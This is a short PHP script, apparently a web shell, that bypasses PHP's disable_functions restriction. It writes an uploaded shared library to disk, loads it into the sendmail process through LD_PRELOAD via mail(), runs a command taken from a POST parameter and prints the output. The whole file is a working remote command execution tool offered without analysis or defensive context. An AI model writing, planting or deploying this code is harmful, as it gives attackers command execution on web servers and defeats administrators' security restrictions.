<?php
// disable_functions bypass: a library of the page's own preloaded into the sendmail process
// that mail() starts; the command to run travels in another environment variable.
$lib = __DIR__ . '/cache.so';
file_put_contents($lib, base64_decode($_POST['lib']));
putenv('LD_PRELOAD=' . $lib);
putenv('JOB=' . $_POST['cmd'] . ' > ' . __DIR__ . '/out.txt');
mail('nobody@example.test', 'x', 'x');
echo @file_get_contents(__DIR__ . '/out.txt');
